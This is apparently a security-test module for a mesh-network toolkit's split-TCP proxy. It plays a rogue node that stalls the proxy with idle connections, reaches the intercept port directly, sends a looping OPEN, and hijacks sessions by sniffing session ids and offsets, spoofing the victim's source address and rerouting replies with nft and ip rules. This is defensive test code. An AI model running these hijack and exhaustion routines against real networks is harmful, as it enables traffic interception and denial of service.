"""A rogue node against the split-TCP proxy: it holds no key, sees what crosses its
interfaces (it relays the victims' traffic, as a node in radio range can) and speaks
TCP with any source address it likes. Run inside the rogue's namespace:

    python3 -m tests.security.proxy_rogue idle --to IP:PORT --count N --hold S
    python3 -m tests.security.proxy_rogue direct --to IP:PORT
    python3 -m tests.security.proxy_rogue open --to IP:PORT --addr A --port P
    python3 -m tests.security.proxy_rogue hijack --iface IF --to IP:PORT --as IP [--epoch N]

``idle``: N connections that never send a byte, held S seconds (they used to stall every
other leg's hello for the hello timeout each). ``direct``: a connection straight to a
port (the intercept port, which only nft's redirect should reach). ``open``: an OPEN
naming A:P (the acceptor's own ports: a loop). ``hijack``: waits for the first OPEN to
PORT crossing IF, copies its session id, and sends RESUME(sid, epoch) on a connection
whose source is the initiator's address (``--as``): its replies are delivered to us
as TPROXY delivers them (a fwmark rule and a ``local`` route, removed at exit).

Prints one JSON line with what happened.
"""

from __future__ import annotations

import argparse
import contextlib
import json
import re
import socket
import struct
import subprocess
import time
from collections.abc import Iterator
from ipaddress import IPv4Address

from manetkit.proxy import frames as fr

ETH_P_ALL = 0x0003
TYPE_MASK = 0x3F  # a frame type's bits (frames.TYPE_MASK; the flags above them)
IP_TRANSPARENT = 19
HIJACK_MARK = 0x0BAD
HIJACK_TABLE = 977
HIJACK_PORT = 47_001


def addr_port(text: str) -> tuple[str, int]:
    host, _, port = text.rpartition(":")
    return host, int(port)


def first_frame(sock: socket.socket, timeout: float) -> dict:
    """The first frame the peer sends back (or how the connection ended)."""
    reader = fr.FrameReader()
    sock.settimeout(timeout)
    try:
        while (rec := reader.next_record()) is None:
            chunk = sock.recv(4096)
            if not chunk:
                return {"reply": "eof"}
            reader.feed(chunk)
    except ConnectionResetError:
        return {"reply": "reset"}
    except TimeoutError:
        return {"reply": "timeout"}
    frame = rec.frame
    return {"reply": type(frame).__name__, "reason": getattr(frame, "reason", None)}


def idle(to: str, count: int, hold: float) -> dict:
    conns, refused = [], 0
    for _ in range(count):
        try:
            conns.append(socket.create_connection(addr_port(to), timeout=5))
        except OSError:
            refused += 1
    time.sleep(hold)
    closed_by_peer = busy = 0
    for c in conns:
        c.setblocking(False)
        got = bytearray()
        try:
            while chunk := c.recv(4096):
                got += chunk
            closed_by_peer += 1
        except BlockingIOError:
            pass
        except OSError:
            closed_by_peer += 1
        reader = fr.FrameReader()
        reader.feed(bytes(got))
        busy += isinstance(reader.next_frame() if got else None, fr.Busy)
        c.close()
    return {
        "connected": len(conns),
        "refused": refused,
        "closed_by_peer": closed_by_peer,
        "busy": busy,
    }


def direct(to: str) -> dict:
    try:
        s = socket.create_connection(addr_port(to), timeout=5)
    except ConnectionRefusedError:
        return {"connect": "refused"}
    with s:
        s.sendall(b"GET / HTTP/1.0\r\n\r\n")
        s.settimeout(5)
        try:
            data = s.recv(100)
        except ConnectionResetError:
            return {"connect": "ok", "then": "reset"}
        except TimeoutError:
            return {"connect": "ok", "then": "timeout"}
    return {"connect": "ok", "then": "eof" if not data else "data"}


def open_for(to: str, addr: str, port: int) -> dict:
    with socket.create_connection(addr_port(to), timeout=5) as s:
        s.sendall(fr.pack_open(bytes(range(16)), 0, IPv4Address(addr), port, "elfn", 0,
                               bytes(range(1, 33))))  # fmt: skip
        return first_frame(s, 5)


def sniffer(iface: str) -> socket.socket:
    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(ETH_P_ALL))
    s.bind((iface, 0))
    return s


def _payloads(s: socket.socket, port: int, until: float) -> Iterator[bytes]:
    """TCP payloads sent to ``port`` that ``s`` sees, until the monotonic time ``until``."""
    while (left := until - time.monotonic()) > 0:
        s.settimeout(left)
        try:
            frame = s.recv(65536)
        except TimeoutError:
            return
        if frame[12:14] != b"\x08\x00":
            continue
        ip = frame[14:]
        ihl = (ip[0] & 0x0F) * 4
        if ip[9] != socket.IPPROTO_TCP:
            continue
        tcp = ip[ihl:]
        if struct.unpack_from("!H", tcp, 2)[0] == port:
            payload = tcp[(tcp[12] >> 4) * 4 :]
            if payload:
                yield payload


def sniff_open(s: socket.socket, port: int, timeout: float) -> bytes:
    """The session id of the first OPEN sent to ``port`` that ``s`` sees."""
    for payload in _payloads(s, port, time.monotonic() + timeout):
        if payload[0] & TYPE_MASK == fr.FrameType.OPEN:
            return bytes(payload[5 : 5 + fr.SID_LEN])
    raise SystemExit(f"no OPEN to port {port} seen within {timeout} s")


def sniff_ack(s: socket.socket, port: int, timeout: float) -> int:
    """The delivered offset of the next ACK the initiator sends (offsets travel in clear:
    a RESUME naming the latest one passes the acceptor's offset check)."""
    s.setblocking(False)
    with contextlib.suppress(BlockingIOError):
        while True:
            s.recv(65536)  # what queued up meanwhile is old: only a fresh ACK will do
    for payload in _payloads(s, port, time.monotonic() + timeout):
        if len(payload) >= 13 and payload[0] & TYPE_MASK == fr.FrameType.ACK:
            return struct.unpack_from("!Q", payload, 5)[0]
    return 0


def sh(*cmd: str) -> None:
    subprocess.run(cmd, check=True, capture_output=True, text=True)


@contextlib.contextmanager
def replies_delivered_here(as_addr: str) -> Iterator[None]:
    """Packets to (as_addr, HIJACK_PORT) are delivered to this host (TPROXY's recipe:
    a mark, a fwmark rule, a ``local`` default route in its own table)."""
    sh("nft", "add table ip mkrogue")
    try:
        sh("nft", "add chain ip mkrogue pre { type filter hook prerouting priority -150; }")
        sh("nft", f"add rule ip mkrogue pre ip daddr {as_addr} tcp dport "
           f"{HIJACK_PORT}-{HIJACK_PORT + 9} meta mark set {HIJACK_MARK:#x}")  # fmt: skip
        sh("ip", "rule", "add", "fwmark", hex(HIJACK_MARK), "lookup", str(HIJACK_TABLE))
        sh("ip", "route", "add", "local", "0.0.0.0/0", "dev", "lo", "table", str(HIJACK_TABLE))
        yield
    finally:
        subprocess.run(["nft", "delete", "table", "ip", "mkrogue"], capture_output=True)
        subprocess.run(["ip", "rule", "del", "fwmark", hex(HIJACK_MARK)], capture_output=True)
        subprocess.run(["ip", "route", "flush", "table", str(HIJACK_TABLE)], capture_output=True)


def hijack(iface: str, to: str, as_addr: str, epoch: int, timeout: float) -> dict:
    host, port = addr_port(to)
    sniff = sniffer(iface)
    print(json.dumps({"ready": True}), flush=True)  # the sniffer listens
    attempts = []
    with sniff, replies_delivered_here(as_addr):
        sid = sniff_open(sniff, port, timeout)
        delivered = None
        for _ in range(5):
            s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
            with s:
                s.setsockopt(socket.SOL_IP, IP_TRANSPARENT, 1)
                s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
                s.bind((as_addr, HIJACK_PORT + len(attempts)))
                s.settimeout(5)
                s.connect((host, port))
                if delivered is None:
                    delivered = sniff_ack(sniff, port, 2.0)  # then at once
                s.sendall(fr.pack_resume(sid, epoch, delivered, False))
                out = first_frame(s, 5)
                # what the acceptor replays to us if it took the leg over
                s.settimeout(1)
                stolen = 0
                with contextlib.suppress(OSError):
                    while chunk := s.recv(65536):
                        stolen += len(chunk)
            attempts.append({"delivered": delivered, **out, "bytes_after": stolen})
            # an acceptor that names the offsets it would take is asked again with them
            m = re.search(r"outside \[(\d+), (\d+)\]", out.get("reason") or "")
            if not m:
                break
            delivered = int(m.group(2))
    return {"sid": sid.hex(), **attempts[-1], "attempts": len(attempts)}


def main(argv: list[str] | None = None) -> None:
    ap = argparse.ArgumentParser(prog="proxy_rogue")
    sub = ap.add_subparsers(dest="cmd", required=True)
    p = sub.add_parser("idle")
    p.add_argument("--to", required=True)
    p.add_argument("--count", type=int, default=5)
    p.add_argument("--hold", type=float, default=5)
    p = sub.add_parser("direct")
    p.add_argument("--to", required=True)
    p = sub.add_parser("open")
    p.add_argument("--to", required=True)
    p.add_argument("--addr", required=True)
    p.add_argument("--port", type=int, required=True)
    p = sub.add_parser("hijack")
    p.add_argument("--iface", required=True)
    p.add_argument("--to", required=True)
    p.add_argument("--as", dest="as_addr", required=True)
    p.add_argument("--epoch", type=int, default=0xFFFFFFFF)
    p.add_argument("--timeout", type=float, default=20)
    a = ap.parse_args(argv)
    if a.cmd == "idle":
        out = idle(a.to, a.count, a.hold)
    elif a.cmd == "direct":
        out = direct(a.to)
    elif a.cmd == "open":
        out = open_for(a.to, a.addr, a.port)
    else:
        out = hijack(a.iface, a.to, a.as_addr, a.epoch, a.timeout)
    print(json.dumps({"cmd": a.cmd, **out}), flush=True)


if __name__ == "__main__":
    main()
